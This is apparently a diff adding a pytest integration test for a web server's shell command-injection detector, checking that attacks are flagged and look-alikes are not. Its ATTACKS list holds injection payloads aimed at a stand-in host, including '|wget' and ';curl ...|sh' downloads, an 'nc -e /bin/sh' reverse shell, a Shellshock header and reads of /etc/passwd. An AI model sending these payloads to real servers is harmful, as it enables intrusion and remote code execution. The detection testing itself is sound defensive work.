@@ -1,0 +1,94 @@
+"""The shell detector in a real httpd: its two shipped rules (500900
+parameters, names, cookies; 500910 headers, Referer, User-Agent and path)
+alone, with the shipped shell.words, flag command injection wherever the
+rules say, with the detector's reason, and leave look-alikes alone.
+
+Run:  LW_BUILDDIR=/path/to/build LW_SRCDIR=/path/to/src \
+      /usr/bin/python3 -m pytest -q test/integration -k detect_shell
+"""
+import os
+import re
+import shutil
+import time
+
+import lwhttpd
+
+DETECTOR_RULES = (500900, 500910)
+
+
+def detector_only(tmpdir):
+    """A signature directory with the shipped shell detector rules and words
+    and nothing else, so that no regex rule can stand in for them."""
+    src = os.path.join(lwhttpd.srcdir(), "conf", "signatures")
+    with open(os.path.join(src, "50-rce.rules"), encoding="utf-8") as f:
+        text = f.read()
+    stanzas = [b for b in re.split(r"\n(?=rule )", text)
+               if re.match(r"rule (%s)\b" % "|".join(map(str, DETECTOR_RULES)),
+                           b)]
+    assert len(stanzas) == len(DETECTOR_RULES), "detector rules not found"
+    d = os.path.join(tmpdir, "sigs")
+    os.makedirs(d)
+    with open(os.path.join(d, "50-rce-detector.rules"), "w",
+              encoding="utf-8") as f:
+        f.write("\n".join(s.rstrip("\n") + "\n" for s in stanzas))
+    shutil.copy(os.path.join(src, "shell.words"), d)
+    return d
+
+
+# (request target, extra headers, rule id, field, reason prefix)
+ATTACKS = [
+    ("/ping.php?host=127.0.0.1%3Bcat%20/etc/passwd", [], 500900, "args:host",
+     "sh:;cat"),
+    # quotes and backslash escapes undone
+    ("/ping.php?host=x%3Bc%27%27a%5Ct%20/e%22%22tc/pa%5Cs%5Cswd", [],
+     500900, "args:host", "sh:;cat"),
+    ("/ping.php?host=%60id%60", [], 500900, "args:host", "sh:`id"),
+    ("/ping.php?host=%26%20FOR%20/F%20%25i%20IN%20(%27whoami%27)%20DO%20"
+     "echo%20%25i", [], 500900, "args:host", "cmd:"),
+    ("/ping.php?host=%26%20powershell%20-enc%20SQBFAFgAIAAoAGkAdwByACkA", [],
+     500900, "args:host", "ps:&powershell"),
+    # in a parameter's name and in a cookie's value
+    ("/p.php?%7Cwget%20http://203.0.113.5/x.sh=1", [], 500900, "arg_names",
+     "sh:|wget"),
+    ("/p.php", [("Cookie", "sid=abc; host=1$(uname -a)")], 500900, "cookie",
+     "sh:$(uname"),
+    ("/p.php", [("User-Agent", "() { :; }; /bin/bash -c \"cat /etc/passwd\"")],
+     500910, "user_agent", "sh:() {"),
+    ("/p.php", [("Referer", "http://example.com/;curl http://203.0.113.5|sh")],
+     500910, "referer", "sh:;curl"),
+    ("/api/items/1%3Bnc%20-e%20/bin/sh%20203.0.113.5%204444", [], 500910,
+     "path", "sh:;nc"),
+]
+
+BENIGN = [
+    ("/search.php?q=cats+%26+dogs", []),
+    ("/search.php?q=R%26D%3B+more+info", []),
+    ("/search.php?q=for+i+in+range", []),
+    ("/search.php?q=rock%7Cpaper%7Cscissors&fields=name%7Cid%7Cemail", []),
+    ("/search.php?q=how+to+cat+a+file+in+linux&price=%245.00", []),
+    ("/item.jsp;jsessionid=A1B2C3?q=100%25+cotton", []),
+    ("/p.php", [("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) "
+                 "AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 "
+                 "Safari/537.36")]),
+    ("/p.php", [("Referer", "https://www.example.com/search?q=Tom+%26+Jerry")]),
+]
+
+
+def test_detect_shell_live(httpd_factory, tmp_path):
+    h = httpd_factory(signatures=[detector_only(str(tmp_path))])
+    for target, headers in BENIGN:
+        h.get(target, headers=headers)
+    for target, headers, *_ in ATTACKS:
+        h.get(target, headers=headers)
+    recs = h.wait_records(len(ATTACKS), pred=lwhttpd.is_attack)
+    time.sleep(0.3)                       # nothing more may come
+    recs = [r for r in h.records() if lwhttpd.is_attack(r)]
+    assert len(recs) == len(ATTACKS), [r.get("uri") for r in recs]
+    for rec, (target, headers, rid, field, why) in zip(recs, ATTACKS):
+        lwhttpd.check_record(rec)
+        assert rec["uri"] == target
+        hits = [x for x in rec["rules"] if x["id"] == rid]
+        assert hits, (target, rec["rules"])
+        assert hits[0]["field"].startswith(field), (target, hits[0])
+        assert hits[0]["detail"].startswith(why), (target, hits[0])
+        assert "rce" in rec["categories"]
